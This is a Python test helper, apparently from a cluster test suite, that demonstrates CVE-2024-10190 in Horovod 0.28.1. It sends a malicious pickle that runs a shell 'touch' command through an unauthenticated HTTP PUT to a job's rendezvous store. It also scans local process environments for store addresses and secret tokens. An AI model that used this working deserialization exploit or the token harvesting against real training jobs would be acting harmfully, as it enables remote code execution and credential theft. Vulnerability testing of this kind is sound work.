"""Somebody in the network who knows an address and a port of a job, and no secret (CVE-2024-10190).

python -m tests.cluster.stranger put ADDRESS PORT FILE     asks the store there to create FILE; prints the HTTP status
python -m tests.cluster.stranger look                      prints what a user of this host can see of an elastic job
"""

import base64
import http.client
import json
import os
import pickle
import sys
from pathlib import Path
from typing import Any

import psutil


class CreatesFile:
    """As a pickle: the command that creates the file."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


def exploit(path: Path) -> bytes:
    """What creates the file where released Horovod 0.28.1 reads it."""
    return base64.b64encode(pickle.dumps(CreatesFile(path)))


def put_exploit(address: str, port: int, path: Path, headers: dict[str, str] | None = None) -> int:
    """The status of the answer."""
    connection = http.client.HTTPConnection(address, port, timeout=10)
    connection.request("PUT", "/worker_addresses/stranger:0", exploit(path), headers or {})
    return connection.getresponse().status


def look() -> dict[str, Any]:
    """store: of a process that trains, from its environment (which only its own user sees). tokens: of all processes.
    listening, words: every user's to see, in /proc."""
    environs, words = [], set()
    for process in psutil.process_iter():
        try:
            environs.append(process.environ())
            words.update(process.cmdline())
        except (psutil.NoSuchProcess, psutil.AccessDenied):
            continue
    stores = {
        (e["HOROVOD_GLOO_RENDEZVOUS_ADDR"], e["HOROVOD_GLOO_RENDEZVOUS_PORT"]) for e in environs if "HOROVOD_RANK" in e
    }
    return {
        "stores": sorted(stores),
        "tokens": sorted({e["_HOROVOD_STORE_TOKEN"] for e in environs if "_HOROVOD_STORE_TOKEN" in e}),
        "listening": [c.laddr for c in psutil.net_connections("tcp") if c.status == psutil.CONN_LISTEN],
        "words": sorted(words),
    }


if __name__ == "__main__":
    if sys.argv[1] == "look":
        print(json.dumps(look()))
    else:
        print(put_exploit(sys.argv[2], int(sys.argv[3]), Path(sys.argv[4])))
